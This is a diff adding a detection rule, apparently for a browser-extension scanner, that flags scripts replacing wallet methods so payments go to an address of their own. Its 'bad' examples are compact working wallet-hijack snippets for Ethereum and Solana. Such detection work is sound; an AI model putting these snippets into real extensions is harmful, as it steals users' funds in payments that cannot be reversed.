@@ -1,0 +1,64 @@
+import { callsNamed, constant, propertyOf, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { defineRule } from '../../rule.ts';
+import { checkScripts, contentExample } from './checkScripts.ts';
+import { mentions, textsOf } from './network.ts';
+import { originsOf } from './origins.ts';
+import { runsInPages } from './places.ts';
+import { few, functionOf } from './usage.ts';
+
+/** Methods by which pages ask a wallet for payments and signatures. */
+const METHODS = ['request', 'send', 'sendAsync', 'signTransaction', 'signAllTransactions', 'signAndSendTransaction', 'signMessage', 'sendTransaction'];
+const WALLET = /eth_sendTransaction|eth_signTypedData|personal_sign|signAndSendTransaction|signAllTransactions|SystemProgram|setApprovalForAll|increaseAllowance|tron(Web|Link)|sui:sign/;
+/** Ethereum, Bitcoin, Tron and (32 to 44 characters) Solana. */
+const ADDRESS = /^(0x[0-9a-fA-F]{40}|bc1[a-z0-9]{25,60}|T[1-9A-HJ-NP-Za-km-z]{33}|(?=.*[0-9])(?=.*[A-Z])(?=.*[a-z])[1-9A-HJ-NP-Za-km-z]{32,44})$/;
+const NOBODY = /^0x0{40}$|^1{32}$/;
+
+export const walletRequestsChanged = defineRule({
+  id: 'wallet-requests-changed',
+  title: 'Payments that pages ask a wallet for are changed or added to',
+  severity: 'critical',
+  confidence: 'high',
+  category: 'code',
+  applies: 'extension',
+  cwe: 'CWE-506',
+  references: ['https://attack.mitre.org/techniques/T1565/'],
+  why: 'The script stands between page and wallet and puts an address of its own into what the person signs. Such payments cannot be taken back.',
+  remedy: 'Never change what a page asks a wallet for.',
+  cap: { grade: 'F', reason: 'it changes payments' },
+  check: checkScripts(function* ({ script, file, facts, hit }) {
+    if (!runsInPages(facts, file.path) || !mentions(script, WALLET)) return;
+    const replaced = few(writesOf(script, ...METHODS)).find((write) => functionOf(script, write.value) !== undefined);
+    if (replaced === undefined) return;
+    const own = new Set(textsOf(script).filter(({ text }) => ADDRESS.test(text) && !NOBODY.test(text)).map(({ value }) => value));
+    if (own.size === 0) return;
+    const names = new Set([...own].map((value) => constant(script, value)));
+    for (const value of receivers(script)) {
+      const origins = originsOf(script, value);
+      const mine = [...origins].find((one) => own.has(one) || names.has(constant(script, one)));
+      if (mine === undefined) continue;
+      yield hit(value, { evidence: constant(script, mine) ?? '', message: `The method ${replaced.property} is replaced, and payments go to this address.` });
+      return;
+    }
+  }),
+  examples: {
+    bad: [
+      contentExample('const sink = "0xde709f2102306220921060314715629080e2fb77"; const ask = window.ethereum.request.bind(window.ethereum); window.ethereum.request = async (a) => { if (a.method === "eth_sendTransaction") a.params[0].to = sink; return ask(a); };'),
+      contentExample('const s = window.solana; const sign = s.signAndSendTransaction.bind(s); s.signAndSendTransaction = async (tx) => { tx.instructions.push(web3.SystemProgram.transfer({ fromPubkey: s.publicKey, toPubkey: new web3.PublicKey("BjeWeg7FfFB8ygwPEt4r9QNU8iAQLmFVqDd3Qm6uHb2k"), lamports: 5e6 })); return sign(tx); };'),
+    ],
+    good: [
+      contentExample('const ask = window.ethereum.request.bind(window.ethereum); window.ethereum.request = async (a) => { if (a.method === "eth_sendTransaction" && !(await warn(a.params[0].to))) throw new Error("stopped"); return ask(a); };'),
+      contentExample('class Provider { request(a) { return post(a); } } const usdc = "0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48"; const p = new Provider(); if (a.method === "eth_sendTransaction" && a.params[0].to === usdc) show(p);'),
+    ],
+  },
+});
+
+/** Values that become the receiver of a payment. */
+function* receivers(script: ScriptFacts): Generator<number> {
+  for (const write of few(writesOf(script, 'to', 'toPubkey', 'recipient', 'destination', 'spender'))) yield write.value;
+  for (const call of few(callsNamed(script, 'request', 'send', 'sendAsync', 'transfer', 'sendTransaction'), 60)) {
+    for (const arg of call.args) {
+      for (const name of ['to', 'toPubkey']) if (propertyOf(script, arg, name) !== 0) yield propertyOf(script, arg, name);
+      if (propertyOf(script, arg, 'params') !== 0) yield propertyOf(script, arg, 'params');
+    }
+  }
+}
